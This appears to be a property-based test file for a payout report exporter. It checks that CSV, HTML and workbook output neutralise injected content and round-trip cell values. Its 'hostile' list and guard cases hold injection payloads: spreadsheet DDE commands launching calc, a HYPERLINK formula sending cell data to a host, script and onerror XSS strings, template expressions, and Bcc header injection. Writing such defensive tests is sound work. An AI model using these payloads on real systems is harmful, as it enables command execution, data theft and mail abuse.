import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { doubtOf, fieldOf } from '../../src/files/payroll/field.ts'
import type { ReportRow } from '../../src/files/report/row.ts'
import { reportPieces } from '../../src/files/report/writeReport.ts'
import { problemCodes } from '../../src/payout/problem.ts'
import { guardFormula, reportColumns, textFormats, unguardFormula } from '../../src/payout/report.ts'
import { payoutStates } from '../../src/payout/state.ts'
import { readContent } from './readContent.ts'
import { cellsOf, distinct, inOne, textOf } from './reportTexts.ts'
import { seeded } from './seeded.ts'

/** As a ledger keeps cells: any text without NUL and without halves of characters. */
const formula = fc.constantFrom(
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '＝',
  '＋',
  '－',
  '＠',
  "'",
  "'=",
  "''+",
  ' =',
  '"=',
  '+229 01',
)
const plain = fc.oneof(fc.string({ unit: 'grapheme', maxLength: 8 }), fc.constantFrom(',', ';', '"', '\n', '\r\n', ' '))
const text = fc
  .tuple(
    fc.oneof(formula, fc.constant('')),
    plain,
    fc.oneof(plain, formula),
    fc.constantFrom('', ',', ';', '\t', '|', '\n'),
    formula,
  )
  .map((parts) => parts.join('').toWellFormed().replaceAll('\0', ''))
const isOwn = (name: string) => reportColumns.some((own) => own === name.trim().toLowerCase())
const isAnother = (name: string) => fieldOf(name) === null && doubtOf(name) === null && !isOwn(name)
const columnName = text.map((name) => name.trim()).filter(isAnother)

const instant = fc.option(fc.date({ min: new Date('2020-01-01'), max: new Date('2100-01-01'), noInvalidDate: true }))
const results = fc.record({
  status: fc.constantFrom(...payoutStates),
  providerReference: fc.option(text),
  errorCode: fc.option(fc.constantFrom(...problemCodes)),
  errorMessage: fc.option(text),
  attempts: fc.nat(9),
  sentAt: instant,
  settledAt: instant,
})
/** Each row names an operator: below the payouts, what looks like none is passed over. */
const content = fc.record({
  extra: fc.array(columnName, { maxLength: 4 }),
  rows: fc.array(
    fc.record({
      results,
      cells: fc.array(text, { minLength: 7, maxLength: 7 }).map((cells) => ['mtn-benin', ...cells]),
    }),
    {
      minLength: 1,
      maxLength: 5,
    },
  ),
})

/** What a spreadsheet, a page and a mail would carry out if they could. */
const hostile = fc.constantFrom(
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://x/?"&A1,"a")',
  '+1+1',
  '-2+3',
  '\t=1',
  '\r=1',
  '\n=1',
  '";=1;"',
  '",=1,"',
  '"\t=1\t"',
  '"|=1|"',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '</td></table><a href="javascript:1">',
  '&lt;b&gt;',
  '{name}',
  '{n, plural, other {#}}',
  '$(id)',
  '{{7*7}}',
  'a\r\nBcc: victim@example.com',
  'a\nContent-Type: text/html\n\n<b>',
  'a\u2028Bcc: x@example.com',
  '\u202egnp.exe',
  '\u2066x\u2069',
  '\u001b[2J',
)
const hostileText = fc
  .array(fc.oneof({ weight: 2, arbitrary: hostile }, { weight: 1, arbitrary: text }), { minLength: 1, maxLength: 3 })
  .map((parts) => parts.join(''))

describe('a CSV report for Excel', () => {
  const rowsOf = fc.array(fc.record({ results, cells: fc.tuple(hostileText, hostileText, hostileText) }), {
    minLength: 1,
    maxLength: 4,
  })
  const columns = ['operator', 'phone_number', 'amount', 'reference', 'remark']
  const reportOf = (rows: { results: Omit<ReportRow, 'line' | 'cells'>; cells: string[] }[]): ReportRow[] =>
    rows.map(({ results, cells }, at) => ({ ...results, line: at + 2, cells: ['mtn-benin', '0197000001', ...cells] }))

  test.each(['en', 'fr'] as const)('comes back as it was, whatever its cells say (%s)', async (language) => {
    await fc.assert(
      fc.asyncProperty(rowsOf, async (rows) => {
        const report = reportOf(rows)
        const read = await readContent(await textOf('csv', columns, report, language), 'csv')
        expect(read.result).toMatchObject({ kind: 'checked' })
        expect(read.rows.map(({ cells }) => cells)).toEqual(report.map(({ cells }) => cells))
      }),
      seeded(150),
    )
  })

  test.each((['en', 'fr'] as const).flatMap((language) => [',', ';', '\t', '|'].map((at) => ({ language, at }))))(
    'runs no cell in a spreadsheet that splits it at $at ($language)',
    async ({ language, at }) => {
      await fc.assert(
        fc.asyncProperty(rowsOf, async (rows) => {
          const written = await textOf('csv', columns, reportOf(rows), language)
          // A number is no formula, nor is one with the quote of the cell that it was in: no operator is between the two.
          for (const cell of cellsOf(written, at))
            if (!/^[\d\s+().-]*("|$)/.test(cell)) expect(cell).not.toMatch(/^[\s"]*[=+\-@＝＋－＠]/)
        }),
        seeded(100),
      )
    },
  )
})

test.each(['en', 'fr'] as const)(
  'an HTML report has no markup but its own, whatever is in it (%s)',
  async (language) => {
    const page = async (word: string) => {
      const row = {
        line: 2,
        providerReference: word,
        errorCode: null,
        errorMessage: word,
        attempts: 1,
        cells: [word, word, word],
      }
      const rows = ['failed', 'unknown'].map((status, at) => ({
        ...row,
        line: at + 2,
        status,
        sentAt: null,
        settledAt: null,
      }))
      const batch = { id: '7hk2m9pq4x', name: word, period: word, state: 'settled' as const, file: { name: word } }
      const content = { format: 'html' as const, language, columns: ['reference', 'remark', word], batch, totals: {} }
      let whole = ''
      for await (const piece of reportPieces({ ...content, rows: inOne(rows as unknown as ReportRow[]) }))
        whole += piece
      return whole
    }
    /** Each mark with the names of its attributes. Which column has the amounts, and so its class, is judged by the words. */
    const marks = (html: string) =>
      (html.match(/<(?:"[^"]*"|[^>"])*>/g) ?? []).map((mark) => mark.replace(/"[^"]*"/g, '""').replace(' class=""', ''))
    const own = marks(await page('harmless'))
    await fc.assert(
      fc.asyncProperty(hostileText, async (word) => {
        expect(marks(await page(word))).toEqual(own)
      }),
      seeded(50),
    )
  },
)

describe('a report can go in again as a payout file', () => {
  test.each(textFormats)(
    'as %s: every cell of the input comes back as it was, the results are left out',
    async (format) => {
      await fc.assert(
        fc.asyncProperty(content, async ({ extra, rows }) => {
          const columns = ['operator', 'phone_number', 'amount', 'reference', ...distinct(extra, format)]
          const kept = rows.map(({ cells }) => columns.map((_, at) => cells[at] ?? ''))
          const report = rows.map((row, at) => ({ ...row.results, line: at + 2, cells: kept[at] ?? [] }))
          const read = await readContent(await textOf(format, columns, report), format)
          expect(read.result).toMatchObject({ kind: 'checked' })
          expect(read.columns).toEqual(columns)
          expect(read.rows.map(({ cells }) => cells)).toEqual(kept)
        }),
        seeded(200),
      )
    },
  )

  test.each(['en', 'fr'] as const)('as a workbook (%s): every cell comes back as it was', async (language) => {
    await fc.assert(
      fc.asyncProperty(content, async ({ extra, rows }) => {
        const columns = ['operator', 'phone_number', 'amount', 'reference', ...extra]
        const kept = rows.map(({ cells }) => columns.map((_, at) => cells[at] ?? ''))
        const report = rows.map((row, at) => ({ ...row.results, line: at + 2, cells: kept[at] ?? [] }))
        const pieces: Buffer[] = []
        const whole = { format: 'xlsx' as const, columns, language, batch: {}, totals: {}, rows: inOne(report) }
        for await (const piece of reportPieces(whole)) pieces.push(Buffer.from(piece))
        const read = await readContent(Buffer.concat(pieces), 'xlsx')
        expect(read.result).toMatchObject({ kind: 'checked' })
        expect(read.columns).toEqual(columns)
        expect(read.rows.map(({ cells }) => cells)).toEqual(kept)
      }),
      seeded(50),
    )
  })

  test('and again, and again: the third report is the second one, to the byte', async () => {
    await fc.assert(
      fc.asyncProperty(content, async ({ extra, rows }) => {
        const columns = ['operator', 'phone_number', 'amount', ...extra]
        const report = rows.map((row, at) => ({
          ...row.results,
          line: at + 2,
          cells: row.cells.slice(0, columns.length),
        }))
        const second = await textOf('csv', columns, report)
        const read = await readContent(second, 'csv')
        const again = report.map((row, at) => ({ ...row, cells: read.rows[at]?.cells ?? [] }))
        expect(await textOf('csv', read.columns, again)).toBe(second)
      }),
      seeded(75),
    )
  })
})

test.each([',', ';', '\t', '|'])(
  'a spreadsheet that splits a CSV report at "%s" runs no cell of it',
  async (delimiter) => {
    await fc.assert(
      fc.asyncProperty(content, async ({ extra, rows }) => {
        const columns = ['operator', 'phone_number', 'amount', ...extra]
        const written = await textOf(
          'csv',
          columns,
          rows.map((row, at) => ({ ...row.results, line: at + 2, cells: row.cells })),
        )
        for (const cell of cellsOf(written, delimiter))
          if (!/^[\d\s+().-]*(,|$)/.test(cell)) expect(cell).not.toMatch(/^[\s"]*[=+\-@＝＋－＠]/)
      }),
      seeded(100),
    )
  },
)

test.each(['+229 01 97 00 00 01', '+2290197000001', '-1500', '(+229) 01.97-00', '+'])(
  '%s is a number, and stays as it is',
  async (cell) => {
    const row = {
      line: 2,
      status: 'paid',
      providerReference: null,
      errorCode: null,
      errorMessage: null,
      attempts: 1,
    } as const
    const text = await textOf('csv', ['phone_number'], [{ ...row, cells: [cell], sentAt: null, settledAt: null }])
    expect(text.split('\n')[1]).toBe(`${cell},2,paid,,,,1,,,`)
  },
)

test.each([
  ['=1+1', "'=1+1"],
  ['a;=1+1', "a;'=1+1"],
  ['a,=1+1', "a,'=1+1"],
  ['a\t=1+1', "a\t'=1+1"],
  ["a|=cmd|' /C calc'!A0", "a|'=cmd|' /C calc'!A0"],
  ['a\n=1+1', "a\n'=1+1"],
  ['a\r\n@SUM(A1)', "a\r\n'@SUM(A1)"],
  [' =1+1', "' =1+1"],
  ['a;"=1+1;b', `a;'"=1+1;b`],
  ['+229 01;=1', "'+229 01;'=1"],
  ['-1+A1', "'-1+A1"],
  ["'=1", "''=1"],
  ["'+229", "''+229"],
  ['\t=1', "'\t'=1"],
  ['\u2003=1+1', "'\u2003=1+1"],
  ['a;\u200b\ufeff=1+1', "a;'\u200b\ufeff=1+1"],
  ['\u202e=1+1', "'\u202e=1+1"],
  ["d'=1", "d'=1"],
])('%j becomes %j, and comes back', (cell, guarded) => {
  expect(guardFormula(cell)).toBe(guarded)
  expect(unguardFormula(guarded)).toBe(cell)
})

test('what an older report guarded comes back as it was', () => {
  for (const cell of ['+2290197000001', '-5', '=1', '@a', '\tb']) expect(unguardFormula(`'${cell}`)).toBe(cell)
})
